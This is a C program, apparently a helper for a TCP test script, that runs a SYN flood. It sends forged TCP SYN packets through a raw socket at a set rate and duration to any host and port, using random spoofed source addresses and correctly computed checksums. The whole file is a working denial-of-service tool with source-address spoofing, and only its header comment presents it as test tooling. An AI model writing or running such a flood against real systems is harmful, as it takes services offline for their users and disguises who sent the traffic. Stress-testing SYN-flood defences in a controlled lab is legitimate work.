/* synflood.c: a SYN flood from spoofed sources, through a raw socket (for tests/net/tcp.sh).
 *
 *   synflood DST PORT SECONDS RATE SRC16
 *
 * Sends RATE SYNs a second for SECONDS to DST:PORT, each from a random
 * address SRC16.x.y (SRC16 is the first two bytes, e.g. 10.200: spoofed
 * hosts that never answer) and a random port, with a random sequence number
 * and an MSS option. Prints "sent N" and exits 0, or says what failed and
 * exits 1. Needs CAP_NET_RAW (root).
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint64_t rng = 88172645463325252ull;
static uint32_t rnd(void)
{
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return (uint32_t)(rng >> 16);
}

static uint32_t sum16(const uint8_t *p, size_t n, uint32_t s)
{
    for (size_t i = 0; i + 1 < n; i += 2)
        s += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (n & 1)
        s += (uint32_t)p[n - 1] << 8;
    return s;
}

static uint16_t fold(uint32_t s)
{
    while (s >> 16)
        s = (s & 0xffff) + (s >> 16);
    return (uint16_t)~s;
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    if (argc != 6) {
        fprintf(stderr, "usage: synflood DST PORT SECONDS RATE SRC16\n");
        return 1;
    }
    struct in_addr dst, src16;
    char pfx[32];
    snprintf(pfx, sizeof pfx, "%s.0.0", argv[5]);
    if (inet_pton(AF_INET, argv[1], &dst) != 1 || inet_pton(AF_INET, pfx, &src16) != 1) {
        fprintf(stderr, "synflood: bad address\n");
        return 1;
    }
    int port = atoi(argv[2]);
    double secs = atof(argv[3]);
    long rate = atol(argv[4]);
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        perror("synflood: raw socket");
        return 1;
    }
    rng ^= (uint64_t)time(NULL) * 2654435761u;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
    uint8_t pkt[44];
    long sent = 0;
    double start = now_s();
    while (now_s() - start < secs) {
        long due = (long)((now_s() - start) * (double)rate);
        while (sent < due) {
            const uint8_t *s = (const uint8_t *)&src16.s_addr;
            uint8_t src[4] = {s[0], s[1], (uint8_t)(1 + rnd() % 254), (uint8_t)(1 + rnd() % 254)};
            const uint8_t *d = (const uint8_t *)&dst.s_addr;
            memset(pkt, 0, sizeof pkt);
            /* IPv4 header */
            pkt[0] = 0x45;
            pkt[3] = sizeof pkt;
            pkt[4] = (uint8_t)rnd();
            pkt[5] = (uint8_t)rnd();
            pkt[8] = 64;
            pkt[9] = IPPROTO_TCP;
            memcpy(pkt + 12, src, 4);
            memcpy(pkt + 16, d, 4);
            uint16_t ic = fold(sum16(pkt, 20, 0));
            pkt[10] = (uint8_t)(ic >> 8);
            pkt[11] = (uint8_t)ic;
            /* TCP SYN with MSS 1460 */
            uint8_t *t = pkt + 20;
            uint16_t sport = (uint16_t)(1024 + rnd() % 60000);
            uint32_t seq = rnd() << 16 ^ rnd();
            t[0] = (uint8_t)(sport >> 8);
            t[1] = (uint8_t)sport;
            t[2] = (uint8_t)(port >> 8);
            t[3] = (uint8_t)port;
            t[4] = (uint8_t)(seq >> 24);
            t[5] = (uint8_t)(seq >> 16);
            t[6] = (uint8_t)(seq >> 8);
            t[7] = (uint8_t)seq;
            t[12] = 6 << 4;
            t[13] = 0x02;
            t[14] = 0xff;
            t[15] = 0xff;
            t[20] = 2;
            t[21] = 4;
            t[22] = 0x05;
            t[23] = 0xb4;
            uint8_t ph[12];
            memcpy(ph, src, 4);
            memcpy(ph + 4, d, 4);
            ph[8] = 0;
            ph[9] = IPPROTO_TCP;
            ph[10] = 0;
            ph[11] = 24;
            uint16_t tc = fold(sum16(t, 24, sum16(ph, 12, 0)));
            t[16] = (uint8_t)(tc >> 8);
            t[17] = (uint8_t)tc;
            if (sendto(fd, pkt, sizeof pkt, 0, (struct sockaddr *)&to, sizeof to) < 0) {
                perror("synflood: sendto");
                return 1;
            }
            sent++;
        }
        struct timespec ts = {0, 200000};
        nanosleep(&ts, NULL);
    }
    printf("sent %ld\n", sent);
    return 0;
}
